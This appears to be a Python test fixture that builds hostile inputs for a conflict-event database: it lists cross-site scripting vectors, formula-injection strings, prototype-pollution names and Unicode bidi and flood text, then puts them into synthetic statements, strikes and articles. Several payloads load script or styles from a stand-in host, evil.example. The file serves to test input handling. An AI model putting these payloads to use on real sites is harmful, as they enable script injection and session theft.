"""Texts that mean harm, and events that have them wherever an event has a text.

Vectors are of the families that collections of cross-site scripting list: tags, handlers, SVG and
MathML, addresses, style, templates, entities, broken markup, and texts that hide or flood. Each is
put into several surroundings, those that it would have to break out of. `_(1)` calls `alert`.
"""

import re
from collections.abc import Iterator
from itertools import count
from typing import Any, Final
from urllib.parse import quote as percent_encoded

from tests.oracle.builders import PRODUCER, article, corrected, retracted, statement, strike
from tests.oracle.times import Json

CONFLICT: Final = "hostile"
COUNT: Final = 500

VECTORS: Final = (
    # Tags.
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img/src=`x`/onerror=alert(1)>",
    "<img src=x onerror\n=\talert(1)>",
    "<image src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)></slot>",
    "<portal src=https://evil.example/></portal>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    # SVG, MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/x",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    # Style.
    "x:expression(alert(1))",
    "};body{background:url(//evil.example/x)}",
    "background:url(javascript:alert(1))",
    # Templates.
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)} <%= alert(1) %> {n} {reason} {__proto__}",
    "`+alert(1)+`",
    # Entities and escapes.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Names that mean something to a script.
    "__proto__",
    "constructor",
    "hasOwnProperty",
    # Formulas.
    '=HYPERLINK("//evil.example/","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)*cmd|' /C calc'!A0",
    # What hides, floods, or runs the other way, as far as an event may hold it.
    "left\u200eto\u200fright\u061c",
    "zero\u200bwidth\ufeffand\u2060soft\u00adhyphen",
    "\u2028line\u2029separators",
    "tags\U000e0041\U000e0042\U000e0001",
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 (abc) 123",
    "Z" + "\u0361\u0489\u0300\u0334\u035c" * 12 + "algo",
    "w" * 150,
    "\U0001f469\u200d\U0001f52c\U0001f3f4\U0001f1fa\U0001f1e6",
    "\ufdfd\ufdfd\ufdfd\u2f00\ufffd",
)

SURROUNDINGS: Final = (
    "{}",
    '">{}',
    "'>{}<x y='",
    "--></script></style></title></textarea></noscript>{}",
    "]]>{}<![CDATA[",
    "\\'\\\"{};//",
    "<!--{}",
)

HIDDEN: Final = ("\u202e", "\u2066", "\u0000", "\u001b[31m", "\u0085", "\u202d\u202c")
"""What no event may hold: an event with it is refused, and shown to operators."""


def payloads() -> list[str]:
    """The texts, the same each time, all different and none longer than a name may be."""
    made = [around.replace("{}", vector) for around in SURROUNDINGS for vector in VECTORS]
    return [f"{text[:190]} #{number}" for number, text in enumerate(made[:COUNT])]


class Texts:
    """Gives the payloads one after the other, round and round."""

    def __init__(self) -> None:
        self._all = payloads()
        self._next = count()

    def __call__(self) -> str:
        """The next one."""
        return self._all[next(self._next) % len(self._all)]

    def url(self) -> str:
        """The next one as the path of an address, with all that an address may hold left in it."""
        return "https://news.example/" + percent_encoded(self(), safe="<>\"'`(){}=:;/&#$|\\^@+,!*")


def events() -> Iterator[Json]:
    """A history with each payload in the words, and in the strikes beside them."""
    texts = Texts()
    speakers = [_speaker(texts) for _ in range(30)]
    spoken = [_statement(texts, number, speakers[number // 2]) for number in range(60)]
    struck = [_strike(texts, number) for number in range(60)]
    written = [_article(texts, number, spoken[number]) for number in range(30)]
    for event in (*spoken, *struck, *written, *_amendments(texts, spoken, struck)):
        yield {**event, "conflict": CONFLICT}


def refused_lines() -> list[bytes]:
    """Lines that are refused: of producers, ids, types and texts that mean harm."""
    lines = [
        f'{{"id": "{number}", "type": "{_escaped(text)}", "source": "{_escaped(text)}"}}'
        for number, text in enumerate(payloads()[: len(VECTORS)])
    ]
    for number, hidden in enumerate(HIDDEN):
        words = statement(f"hidden-{number}", 0, 1, "deny")
        name = _escaped(f"{hidden}<img src=x onerror=alert(1)>")
        lines.append(
            f'{{"specversion":"1.0","id":"{name}","source":"{name}","type":"{words["type"]}",'
            f'"time":"2025-02-10T00:00:00Z","conflict":"{name}","data":{{"{name}":"{name}"}}}}'
        )
    lines += ["<script>alert(1)</script>", '{"id": "<svg onload=alert(1)>"', "[" * 40]
    return [line.encode() for line in lines]


def _escaped(text: str) -> str:
    return "".join(
        letter if " " <= letter <= "~" and letter not in '"\\' else _escape(letter)
        for letter in text
    )


def _escape(letter: str) -> str:
    units = letter.encode("utf-16-be").hex()
    return re.sub("(....)", r"\\u\1", units)


def _speaker(texts: Texts) -> Json:
    return {"name": texts(), "id": texts(), "role": texts(), "party": "RUS"}


def _times(texts: Texts, start: int, end: int) -> Json:
    day, hour = divmod(start, 24)
    return {
        "earliest": f"2025-{1 + day // 28:02d}-{1 + day % 28:02d}T{hour:02d}:00:00Z",
        "latest": f"2025-{1 + day // 28:02d}-{1 + day % 28:02d}T{hour + end - start:02d}:00:00Z",
        "as_written": texts(),
        "basis": texts(),
    }


def _statement(texts: Texts, number: int, speaker: Json) -> Json:
    quotes = [
        {"lang": "ru", "text": texts(), "source": texts()},
        {"lang": "en", "text": texts(), "source": texts.url(), "translator": texts()},
    ]
    return statement(
        f"s-{number}",
        0,
        1,
        "deny" if number % 2 == 0 else "admit",
        speaker=speaker,
        said=_times(texts, 48 * number, 48 * number + 1),
        proposition=texts(),
        about=["RUS"],
        quotes=quotes,
        articles=[texts.url()],
        **{texts(): texts()},
    )


def _strike(texts: Texts, number: int) -> Json:
    unknown: Json = {texts(): [texts()]}
    figure: Json = {
        "measure": "killed",
        "unit": "people",
        "claimant": {"name": texts(), "role": texts()},
        "best": number,
        "as_written": texts(),
    }
    return strike(
        f"i-{number}",
        0,
        1,
        occurred=_times(texts, 48 * number + 6, 48 * number + 8),
        place={"name": texts(), "as_written": texts(), "admin1": "UA-12", "country": "UA"},
        attribution=[{"party": "RUS", "basis": "assessed", "by": texts()}],
        weapons=[{"family": "other", "model": texts(), "status": "contested"}],
        figures=[figure, {**figure, "claimant": texts(), "best": number + 5}],
        claimant={"name": texts(), "role": texts(), "party": "UKR"},
        articles=[texts.url()],
        grade="weak",
        graded_by=texts(),
        rating={"reliability": "C", "credibility": 3, "rated_by": texts()},
        **unknown,
    )


def _article(texts: Texts, number: int, words: Json) -> Json:
    return article(
        f"a-{number}",
        words["data"]["articles"][0],
        title=texts(),
        outlet={"name": texts(), "group": texts()},
        authors=[texts(), texts()],
        archive_urls=[texts.url()],
        published=_times(texts, 48 * number, 48 * number + 1),
    )


def _amendments(texts: Texts, spoken: list[Json], struck: list[Json]) -> Iterator[Json]:
    """Some words corrected, and some of each retracted, with reasons."""
    for number, event in enumerate((*spoken[5:10], *struck[5:10])):
        field: Any = {"proposition": texts()} if "proposition" in event["data"] else {}
        yield _because(corrected(f"c-{number}", event, **field), texts)
    for number, event in enumerate((spoken[-1], struck[-1])):
        yield _because(retracted(f"r-{number}", event), texts)


def _because(event: Json, texts: Texts) -> Json:
    assert event["source"] == PRODUCER
    return {**event, "data": {**event["data"], "reason": texts()}}
